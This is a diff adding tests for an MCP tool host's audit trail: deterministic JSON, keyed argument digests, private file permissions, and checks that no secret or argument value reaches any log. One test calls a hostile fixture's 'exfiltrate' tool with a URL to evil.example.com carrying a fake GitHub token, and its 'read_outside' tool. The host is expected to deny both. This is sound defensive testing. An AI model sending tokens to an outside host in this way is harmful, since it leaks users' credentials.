@@ -1,0 +1,97 @@
+import { readFileSync, readdirSync, statSync } from 'node:fs';
+import { join } from 'node:path';
+import { describe, expect, it } from 'vitest';
+import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
+import { argsDigest, canonicalJson, openAudit } from '../../host/audit.ts';
+import { EXAMPLES, FIXTURES, startHost, tempDir } from '../helpers/host.ts';
+
+describe('canonicalJson', () => {
+  it('gives the same text for the same value whatever the key order', () => {
+    expect(canonicalJson({ b: 1, a: { d: [1, { z: 1, y: 2 }], c: null } })).toBe(canonicalJson({ a: { c: null, d: [1, { y: 2, z: 1 }] }, b: 1 }));
+  });
+});
+
+describe('argsDigest', () => {
+  it('is keyed: the same arguments give different digests under different keys', () => {
+    const args = { pin: '1234' };
+    expect(argsDigest(Buffer.alloc(32, 1), args)).toBe(argsDigest(Buffer.alloc(32, 1), { pin: '1234' }));
+    expect(argsDigest(Buffer.alloc(32, 1), args)).not.toBe(argsDigest(Buffer.alloc(32, 2), args));
+    expect(argsDigest(Buffer.alloc(32, 1), args)).toMatch(/^hmac-sha256:[0-9a-f]{64}$/);
+  });
+});
+
+describe('openAudit', () => {
+  it('writes one JSON line per call and per capability use, with a private key file', async () => {
+    const dir = tempDir('audit');
+    const audit = await openAudit(join(dir, 'audit.log'), join(dir, 'audit.key'), () => new Date('2030-01-01T00:00:00Z'));
+    audit.call({ package: 'p', version: '1.0.0', tool: 't', argsDigest: audit.digest({ x: 1 }), durationMs: 1.5, outcome: 'ok' });
+    audit.capability('p', 't', { kind: 'net', op: 'GET', target: 'https://api.example.com:443', allowed: false, code: 'NET_NOT_GRANTED' });
+    await audit.close();
+    const lines = readFileSync(join(dir, 'audit.log'), 'utf8').trim().split('\n').map((l) => JSON.parse(l));
+    expect(lines).toEqual([
+      { time: '2030-01-01T00:00:00.000Z', type: 'call', package: 'p', version: '1.0.0', tool: 't', argsDigest: expect.stringMatching(/^hmac-sha256:/), durationMs: 1.5, outcome: 'ok' },
+      { time: '2030-01-01T00:00:00.000Z', type: 'capability', package: 'p', tool: 't', kind: 'net', op: 'GET', target: 'https://api.example.com:443', allowed: false, code: 'NET_NOT_GRANTED' },
+    ]);
+    expect(statSync(join(dir, 'audit.key')).mode & 0o077).toBe(0);
+    expect(statSync(join(dir, 'audit.log')).mode & 0o077).toBe(0);
+  });
+});
+
+function allFiles(dir: string): string[] {
+  return readdirSync(dir).flatMap((n) => {
+    const p = join(dir, n);
+    return statSync(p).isDirectory() ? allFiles(p) : [p];
+  });
+}
+
+describe('the audit trail of a running host', () => {
+  it('records calls and capability decisions but no argument value and no secret, in any log', async () => {
+    const SECRET = 'ghp_SeCrEtVaLuE_do_not_log_7f3a9c';
+    const MARKER = 'argument-value-Q7xZ19';
+    const home = tempDir('audit-home');
+    const logFile = join(home, 'host.log');
+    const h = await startHost({
+      home,
+      env: { GITHUB_TOKEN: SECRET },
+      args: ['--dev', join(EXAMPLES, 'text-tools'), '--dev', join(FIXTURES, 'hostile'), '--log-level', 'trace', '--log-file', logFile],
+    });
+    try {
+      const call = async (name: string, args: Record<string, unknown>) => (await h.client.callTool({ name, arguments: args })) as CallToolResult;
+      expect((await call('text-tools__convert_case', { text: MARKER, to: 'upper' })).isError).toBeFalsy();
+      expect((await call('text-tools__sha256', { text: `${MARKER} ${SECRET}` })).isError).toBeFalsy();
+      // Invalid arguments and a denied fetch whose URL carries the marker in its path and query.
+      expect((await call('text-tools__convert_case', { text: MARKER, to: MARKER })).isError).toBe(true);
+      const denied = await call('hostile__exfiltrate', { url: `https://evil.example.com/${MARKER}?token=${SECRET}` });
+      expect(denied.isError).toBe(true);
+      expect((await call('hostile__read_outside', { path: `/nonexistent/${MARKER}` })).isError).toBe(true);
+      await call('hostile__crash', {});
+    } finally {
+      await h.close();
+    }
+    const audit = readFileSync(join(home, 'audit.log'), 'utf8');
+    const records = audit.trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
+    expect(records.filter((r) => r.type === 'call').map((r) => [r.tool, r.outcome])).toEqual([
+      ['convert_case', 'ok'],
+      ['sha256', 'ok'],
+      ['convert_case', 'INVALID_ARGUMENTS'],
+      ['exfiltrate', 'CAPABILITY_DENIED'],
+      ['read_outside', 'CAPABILITY_DENIED'],
+      ['crash', 'TOOL_THREW'],
+    ]);
+    expect(records).toContainEqual(expect.objectContaining({ type: 'capability', kind: 'net', target: 'https://evil.example.com:443', allowed: false }));
+    expect(records).toContainEqual(expect.objectContaining({ type: 'capability', kind: 'fs', allowed: false }));
+    // The file path a tool asks for is "the path touched" (audited on purpose); argument values elsewhere are not.
+    const withoutFsTargets = records.filter((r) => !(r.type === 'capability' && r.kind === 'fs'));
+
+    const logs = allFiles(home).filter((f) => !f.endsWith('audit.key'));
+    expect(logs).toEqual(expect.arrayContaining([join(home, 'audit.log'), logFile]));
+    for (const f of logs) {
+      const content = readFileSync(f, 'utf8');
+      expect([f, content.includes(SECRET)]).toEqual([f, false]);
+      if (f !== join(home, 'audit.log')) expect([f, content.includes(MARKER)]).toEqual([f, false]);
+    }
+    expect(JSON.stringify(withoutFsTargets)).not.toContain(MARKER);
+    expect(h.stderr()).not.toContain(SECRET);
+    expect(h.stderr()).not.toContain(MARKER);
+  });
+});
